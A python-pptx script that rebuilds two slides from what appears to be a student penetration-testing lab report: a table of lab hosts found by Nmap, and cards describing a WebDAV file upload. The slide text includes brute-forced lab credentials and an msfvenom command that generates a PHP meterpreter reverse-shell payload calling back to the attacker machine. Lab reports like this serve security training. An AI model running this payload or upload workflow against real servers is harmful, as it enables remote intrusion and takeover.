

from lxml import etree
from pptx import Presentation
from pptx import util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import ns

rgb = RGBColor.from_string
BLACK, WHITE, RED, DARK_RED = "000000", "FFFFFF", "CC0000", "990000"
LILAC, PANEL, BORDER = "DBD9E8", "F3F3F3", "78909C"
FONT = "Roboto"

prs = Presentation()
prs.slide_width, prs.slide_height = u.Inches(10), u.Inches(5.625)
UNIT = prs.slide_width / 100  # square grid: 100 columns, 56.25 rows


def grid(*cells):
    """Turn grid columns or rows into slide lengths."""
    return [u.Emu(round(c * UNIT)) for c in cells]


def write(frame, insets, paras, size, color=BLACK, spacing=None, align=None):
    """Fill a text frame or table cell; each paragraph is a list of (text, style)."""
    (frame.margin_left, frame.margin_top,
     frame.margin_right, frame.margin_bottom) = grid(*insets)
    tf = getattr(frame, "text_frame", frame)
    tf.word_wrap = True
    for i, runs in enumerate(paras):
        p = tf.add_paragraph() if i else tf.paragraphs[0]
        p.line_spacing, p.alignment = spacing, align
        for words, style in runs:
            r = p.add_run()
            r.text = words
            r.font.name = style.get("font", FONT)
            r.font.size = u.Pt(style.get("size", size))
            r.font.bold = style.get("bold", False)
            r.font.underline = style.get("underline", False)
            r.font.color.rgb = rgb(color)
            if "mark" in style:
                mark = etree.Element(ns.qn("a:highlight"))
                etree.SubElement(mark, ns.qn("a:srgbClr"), val=style["mark"])
                r.font._element.find(ns.qn("a:solidFill")).addnext(mark)


# Shared frame: rules and title
slides = []
for title in ("Recon: Describing the Target",
              "Exploitation: WebDAV Connection/File Upload"):
    s = prs.slides.add_slide(prs.slide_layouts[6])
    for y, color in ((7, "595959"), (53.7, "A9B7C0")):
        rule = s.shapes.add_connector(shapes.MSO_CONNECTOR.STRAIGHT,
                                      *grid(3, y, 97, y + 0.1))
        rule.line.color.rgb = rgb(color)
        rule.line.width = u.Pt(0.75)
        etree.SubElement(rule._element.spPr, ns.qn("a:effectLst"))
    sp = s.shapes.add_textbox(*grid(0, 0, 100, 5.8))
    write(sp.text_frame, (5, 2, 3, 1), [[(title, {})]], 24)
    slides.append(s)
recon, exploit = slides

# Slide 1: subtitle
sp = recon.shapes.add_textbox(*grid(0, 7.4, 100, 4))
write(sp.text_frame, (5, 1, 5, 0),
      [[("Nmap identified the following hosts on the network:", {})]], 18)

# Slide 1: host table
hosts = [
    ("Hostname", "IP Address", "Role on Network"),
    ("Server1", "192.168.1.105", "This is the Host that has the web server on it."),
    ("ELK", "192.168.1.100",
     "This VM has an ELK stack on it. It has used sealed containers to fulfill "
     "that task. Pulls varying log data to be analyzed."),
    ("Kali", "192.168.1.90", "Playing the role of attacker."),
    ("ML-RefVm-684427", "192.168.1.1",
     "This VM is where the 3 VM’s above are mounted on."),
]
table = recon.shapes.add_table(len(hosts), 3, *grid(4.6, 13.15, 91.3, 39.2)).table
table.first_row = table.horz_banding = False
for i, host in enumerate(hosts):
    table.rows[i].height = grid(8.7 if i else 4.4)[0]
    for j, words in enumerate(host):
        cell = table.cell(i, j)
        write(cell, (2, 1, 2, 1), [[(words, {"bold": i == 0})]],
              12 if i else 14, BLACK if i else WHITE)
        cell.vertical_anchor = text.MSO_ANCHOR.TOP if i else text.MSO_ANCHOR.MIDDLE
        if i and j != 1:
            cell.fill.background()
        else:
            cell.fill.solid()
            cell.fill.fore_color.rgb = rgb(LILAC if i else DARK_RED)
        tcPr = cell._tc.get_or_add_tcPr()
        for k, side in enumerate(("lnL", "lnR", "lnT", "lnB")):
            ln = etree.Element(ns.qn("a:" + side), w=str(u.Pt(0.75)))
            fill = etree.SubElement(ln, ns.qn("a:solidFill"))
            etree.SubElement(fill, ns.qn("a:srgbClr"), val=BORDER)
            tcPr.insert(k, ln)
for column in table.columns:
    column.width = grid(30.43)[0]

# Slide 2: numbered cards (left, card width, card height, text width, text)
bold, under, plain = {"bold": True}, {"underline": True}, {}
cards = [
    (7.9, 27, 36.1, 25.9, [
        [("Tools & Processes", bold)],
        [("After receiving credentials from the brute force attack the "
          "/secret_folder was accessed. This gave us the information on how to "
          "access the WebDAV server; as well as the credentials needed to do so. "
          "A remote connection was established with the WebDAV server and "
          "‘shell.php’ was uploaded onto the server. Once the victim clicked on "
          "it, the reverse shell would be enacted.", plain)]]),
    (38.2, 26.6, 34.5, 26.6, [
        [("Achievements", bold)],
        [("This allowed the connection to the webdav server of the company. A "
          "malicious file was uploaded to the victims to lie in wait. Once the "
          "payload was opened a reverse shell was created between the Kali box "
          "and Server1. A root shell can be achieved once in the meterpreter "
          "session on the victims PC.", plain)]]),
    (70, 26.6, 35.6, 25.9, [
        [("Connecting to WebDav:", under)],
        [("dav://192.168.1.105/webdav/", plain)],
        [("Credentials:", under), (" Ryan/linux4u", plain)],
        [("Payload command:", under), (" ", plain),
         ("msfvenom –p php/meterpreter/reverse_tcp LHOST=192.168.1.90 "
          "LPORT=4444 > shell.php",
          {"size": 11, "font": "Arial", "mark": "EEEEEE"}),
         (" ", {"size": 11, "font": "Arial", "mark": "FFFFFF"})]]),
]
KIND = shapes.MSO_SHAPE
for n, (x, width, height, text_width, paras) in enumerate(cards, 1):
    # Card, badge and the badge's pointer, centred on the card's left edge
    card, badge, pointer = [
        exploit.shapes.add_shape(kind, *grid(*place)) for kind, place in (
            (KIND.ROUND_2_DIAG_RECTANGLE, (x, 16.2, width, height)),
            (KIND.ROUNDED_RECTANGLE, (x - 2.9, 9.7, 5.8, 5.2)),
            (KIND.FLOWCHART_EXTRACT, (x - 1.45, 14, 2.9, 1.6)))]
    for sp, color in ((card, PANEL), (badge, RED), (pointer, RED)):
        sp.shadow.inherit = False
        sp.fill.solid()
        sp.fill.fore_color.rgb = rgb(color)
        sp.line.fill.background()
    card.adjustments[0], card.adjustments[1] = 0, 0.167
    badge.adjustments[0] = 0.167
    pointer.rotation = 180
    badge.text_frame.vertical_anchor = text.MSO_ANCHOR.MIDDLE
    write(badge.text_frame, (1, 1, 1, 1), [[(f"{n:02}", plain)]], 21, WHITE,
          align=text.PP_ALIGN.CENTER)
    sp = exploit.shapes.add_textbox(*grid(x, 16.2, text_width, min(height, 35.6)))
    write(sp.text_frame, (2, 2, 2, 2), paras, 12, spacing=1.15)

prs.save("out.pptx")
